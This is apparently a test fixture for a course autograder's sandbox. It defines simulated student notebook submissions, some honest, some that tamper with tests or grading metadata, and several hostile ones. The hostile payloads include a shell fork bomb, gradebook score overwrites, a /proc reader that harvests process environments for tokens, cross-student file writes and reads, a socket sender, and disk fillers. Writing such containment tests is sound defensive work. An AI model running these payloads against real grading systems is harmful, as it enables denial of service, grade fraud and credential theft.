"""Submissions of lesson 01 that a class could really hand in, good, bad and hostile.

Each is made from the released notebook, as a student would edit it. Lesson 01's graded
exercises and their points come from exercises/01_replay_buffers.toml (ex-shapes is worth
2 points, ex-buffer 2 and ex-time 1; the others are solved in every submission that
solves anything), so a score is the maximum minus the points a case loses.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from course_tools import exercises

_EXERCISES = exercises.load(Path(__file__).resolve().parents[2], "01_replay_buffers")
POINTS = {
    answer.removesuffix(exercises.ANSWER): exercise.points
    for answer, exercise in _EXERCISES.items()
}
MAX_SCORE = sum(POINTS.values())

Edit = Callable[[nbformat.NotebookNode, dict[str, str]], None]


def cell(notebook: nbformat.NotebookNode, cell_id: str) -> nbformat.NotebookNode:
    return next(c for c in notebook.cells if c.get("id") == cell_id)


def solve(notebook, solutions, *but: str) -> None:
    """Fill every answer cell with its reference solution, except those in ``but``."""
    for answer_id, code in solutions.items():
        if answer_id not in but:
            cell(notebook, answer_id).source = code


@dataclass(frozen=True)
class Case:
    student: str
    language: str
    edit: Edit
    score: float
    status: str = "graded"
    notes: tuple[str, ...] = ()  # pieces of what the report says under this student

    @property
    def finished(self) -> bool:
        """Whether nbgrader graded the notebook to its end (and so wrote its feedback)."""
        return self.status == "graded" or (self.status == "over the disk limit" and self.score > 0)


def _prefix(answer_id: str, code: str) -> Edit:
    def edit(notebook, solutions):
        solve(notebook, solutions)
        cell(notebook, answer_id).source = code + "\n" + solutions[answer_id]

    return edit


def _delete_test(notebook, solutions):
    solve(notebook, solutions)
    notebook.cells.remove(cell(notebook, "ex-shapes-check"))


def _edit_test(notebook, solutions):
    solve(notebook, solutions, "ex-buffer-answer")
    cell(notebook, "ex-buffer-answer").source = "image_buffer = None"
    cell(notebook, "ex-buffer-check").source = "True  # every test passes now"


def _tamper_metadata(notebook, solutions):
    solve(notebook, solutions, "ex-time-answer")
    cell(notebook, "ex-time-answer").source = "next_lidar = lidar"
    cell(notebook, "ex-time-check").metadata["nbgrader"]["points"] = 100
    cell(notebook, "ex-time-answer").metadata["nbgrader"].update(grade=True, points=50)
    cell(notebook, "ex-shapes-check").metadata["nbgrader"]["grade_id"] = "free-points"


# What hostile submissions look for. None of it may reach another student's graded
# notebook or feedback page. Ana's notebook carries a phrase no one else wrote.
ANA_WORDS = "ana's own words: the buffer is a ring"
SECRETS = (ANA_WORDS, "BEGIN SOLUTION", "settings.apply(", "CREATE TABLE assignment")
#: Where the class's network thief connects; the workflow test listens there.
NETWORK = {"port": 0}
#: The command line of the child a submission leaves behind; grading must end it.
ORPHAN = "course-grading-orphan-of-pia"


def _ana(notebook, solutions):
    solve(notebook, solutions)
    cell(notebook, "ex-time-answer").source += f"\n# {ANA_WORDS}"


def _last_cell(code: str) -> Edit:
    """A fully solved notebook with one more code cell at the end, running ``code``."""

    def edit(notebook, solutions):
        solve(notebook, solutions)
        notebook.cells.append(nbformat.v4.new_code_cell(code))

    return edit


def _hostile(code: str) -> Edit:
    """A fully solved notebook whose last answer also runs ``code`` (which never raises)."""

    def edit(notebook, solutions):
        solve(notebook, solutions)
        cell(notebook, "ex-time-answer").source = (
            solutions["ex-time-answer"] + "\n" + code.replace("{port}", str(NETWORK["port"]))
        )

    return edit


# Reads, then writes, the gradebook with SQLite (three folders up from the graded copy).
_GRADEBOOK = """import sqlite3
try:
    gradebook = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
    print(gradebook.execute("SELECT sql FROM sqlite_master").fetchall())
except sqlite3.Error as error:
    print("read:", error)
try:
    gradebook = sqlite3.connect("../../../gradebook.db")
    gradebook.execute("CREATE TABLE pwned (grade)")
    gradebook.execute("UPDATE grade SET manual_score = 100")
    gradebook.commit()
except sqlite3.Error as error:
    print("write:", error)
"""
# Prints every file of the course it can find: source/, release/, the configuration,
# the other students' submissions and graded copies.
_READER = """from pathlib import Path
for path in sorted(Path.cwd().parents[2].rglob("*")):
    try:
        print(path, path.read_text(errors="replace")[:20000])
    except OSError as error:
        print(path, error)
"""
# A shell child writes into every student's folders, submitted and graded.
_SHELL = """import os, subprocess
subprocess.run("for d in ../../*/ ../../../submitted/*/*/ ../../../autograded/*/*/; "
               "do echo olga > $d/olga-was-here.txt; done", shell=True)
print("in my folder:", sorted(os.listdir(".")))
"""
# A child in a new session, which would outlive its kernel by ten minutes.
_ORPHAN = f"""import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{ORPHAN}"],
                 start_new_session=True)
"""
# A shell fork bomb in a cell of its own at the end, left running; it then counts the
# processes it can see. (Earlier in the notebook, it would starve the kernel's own threads
# and cost the student their grade: a fair outcome, but one that varies from run to run.)
# The count of processes left is only an upper bound: by the time it is taken, the bomb's
# shells may have died of their own failed forks; the limit itself is read as well.
_BOMB = """import os, subprocess, time
subprocess.Popen(["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
sleepers, deadline = [], time.monotonic() + 20
while time.monotonic() < deadline:  # children that stay, until a new one is refused
    try:
        sleepers.append(subprocess.Popen(["sleep", "600"]))
    except OSError as error:
        print("refused:", error.strerror)
        break
import resource
print("limit:", resource.getrlimit(resource.RLIMIT_NPROC)[0])
print("processes:", sum(name.isdigit() for name in os.listdir("/proc")))
"""
# Sends its notebook to a port on the grader's machine.
_NETWORK = """import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
        connection.sendall(open("01_replay_buffers.ipynb", "rb").read())
except OSError as error:
    print("network:", error)
"""
# Prints what /proc shows of every process it can see: environment, command line, status,
# and where the working folder, root, program and open files lead. The workflow test puts a
# secret in the grader's environment; it must reach no graded notebook or feedback page.
# Then it writes a note of its own where the kernel's error output goes, which must not
# reach the grading report.
_PROC_READER = """import os
os.write(2, b"course-grading-note: ex-time-answer: a note the student wrote\\n")
for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    for name in ("environ", "cmdline", "status"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as shown:
                print(f"/proc/{pid}/{name}:", shown.read().replace(b"\\0", b" ").decode())
        except OSError as error:
            print(f"/proc/{pid}/{name}:", error)
    for name in ("cwd", "root", "exe", "fd/0", "fd/1", "fd/2"):
        try:
            print(f"/proc/{pid}/{name} ->", os.readlink(f"/proc/{pid}/{name}"))
        except OSError as error:
            print(f"/proc/{pid}/{name}:", error)
"""
# Writes past the graded folder's disk (the workflow course allows DISK_MB), 16 MiB at a
# time, then says how far it got; its exercises are solved before.
DISK_MB, DISK_FILES = 128, 2_000
_BYTES = """written = 0
try:
    with open("filler.bin", "wb") as filler:
        while written < 1024 * 2**20:
            filler.write(b"x" * 2**24)
            written += 2**24
except OSError as error:
    print("stopped after", written // 2**20, "MiB:", error.strerror)
"""
# Makes empty files until none more may be made, as the class's 300,000-file submission did.
FILES_FILLER = """made = 0
try:
    while made < 300_000:
        open(f"empty-{made}", "w").close()
        made += 1
except OSError as error:
    print("stopped after", made, "files:", error.strerror)
"""
# The same in the kernel's temporary folder (in /tmp, which has no limit on files of its
# own): the sandbox is ended.
_TMP_FILES = """import tempfile
for made in range(300_000):
    open(f"{tempfile.gettempdir()}/empty-{made}", "w").close()
"""
#: The names under which the workflow test hides a secret in the grader's environment: a
#: course setting, another tool's TF_ variable, a JupyterHub token.
SECRET_VARIABLES = ("COURSE_GRADING_TOKEN", "TF_CLI_CONFIG_FILE", "JUPYTERHUB_API_TOKEN")

# The notes are what `course grade` reports under each student, in this order or another.
CASES = [
    Case("ana", "en", _ana, MAX_SCORE),
    Case(
        "ben",
        "en",
        lambda nb, s: None,
        0,
        notes=tuple(f"{name}{exercises.CHECK}: AssertionError" for name in POINTS),
    ),
    Case(
        "chen",
        "en",
        _prefix("ex-buffer-answer", "import os\nos._exit(1)  # the kernel dies"),
        0,
        status="failed",
        notes=("DeadKernelError",),
    ),
    Case(
        "dana",
        "en",
        _prefix("ex-time-answer", "while True:\n    pass"),
        MAX_SCORE - POINTS["ex-time"],
        notes=(
            "ex-time-answer: CellTimeoutError",
            "ex-time-check: NameError: name 'next_lidar' is not defined",
        ),
    ),
    Case(
        "eli",
        "en",
        _prefix("ex-shapes-answer", "hog = bytearray(64 * 2**30)"),
        MAX_SCORE - POINTS["ex-shapes"],
        notes=(
            "ex-shapes-answer: MemoryError",
            "ex-shapes-check: NameError: name 'predicted' is not defined",
        ),
    ),
    # A loop that ignores the interrupt: nbgrader gives up on the whole notebook.
    Case(
        "lena",
        "en",
        _prefix(
            "ex-time-answer",
            "import signal, time\n"
            "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    time.sleep(1)",
        ),
        0,
        status="failed",
        notes=("CellTimeoutError",),
    ),
    Case("fatou", "fr", lambda nb, s: solve(nb, s), MAX_SCORE),
    Case("gael", "fr", _delete_test, MAX_SCORE, notes=("ex-shapes-check: cell missing",)),
    Case(
        "hugo",
        "fr",
        _edit_test,
        MAX_SCORE - POINTS["ex-buffer"],
        notes=("ex-buffer-check: test cell edited", "ex-buffer-check: AssertionError"),
    ),
    Case(
        "ines",
        "fr",
        _tamper_metadata,
        MAX_SCORE - POINTS["ex-time"],
        notes=(
            "ex-shapes-check: grading metadata differed",
            "ex-time-answer: grading metadata differed",
            "ex-time-check: grading metadata differed",
            "ex-time-check: AssertionError",
        ),
    ),
    Case("jules", "fr", _prefix("ex-time-answer", "print('x' * 5_000_000)"), MAX_SCORE),
    Case(
        "katia",
        "fr",
        _prefix(
            "ex-time-answer",
            "from pathlib import Path\n"
            "Path('../../../escaped.txt').write_text('a student was here')",
        ),
        MAX_SCORE - POINTS["ex-time"],
        notes=(
            "ex-time-answer: PermissionError",
            "ex-time-check: NameError: name 'next_lidar' is not defined",
        ),
    ),
    # Hostile code that the sandbox contains: each is graded in full, and harms no one.
    Case("mara", "en", _hostile(_GRADEBOOK), MAX_SCORE),
    Case("noah", "en", _hostile(_READER), MAX_SCORE),
    Case("olga", "en", _hostile(_SHELL), MAX_SCORE),
    Case("pia", "en", _hostile(_ORPHAN), MAX_SCORE),
    Case("ravi", "en", _last_cell(_BOMB), MAX_SCORE),
    Case("sami", "en", _hostile(_NETWORK), MAX_SCORE),
    Case("tara", "en", _hostile(_PROC_READER), MAX_SCORE),
    # Past the disk limits: graded as far as the notebook went, with a status that says so.
    Case(
        "uma",
        "en",
        _last_cell(_BYTES),
        MAX_SCORE,
        status="over the disk limit",
        notes=(f"the graded folder held {DISK_MB:.1f} MiB of at most {DISK_MB} MiB",),
    ),
    Case(
        "vera",
        "fr",
        _last_cell(FILES_FILLER),
        MAX_SCORE,
        status="over the disk limit",
        notes=(
            f"the graded folder held {DISK_FILES:,} files and folders of at most {DISK_FILES:,}",
        ),
    ),
    Case(
        "wim",
        "en",
        _last_cell(_TMP_FILES),
        0,
        status="over the disk limit",
        notes=("/tmp held", "DeadKernelError"),
    ),
]
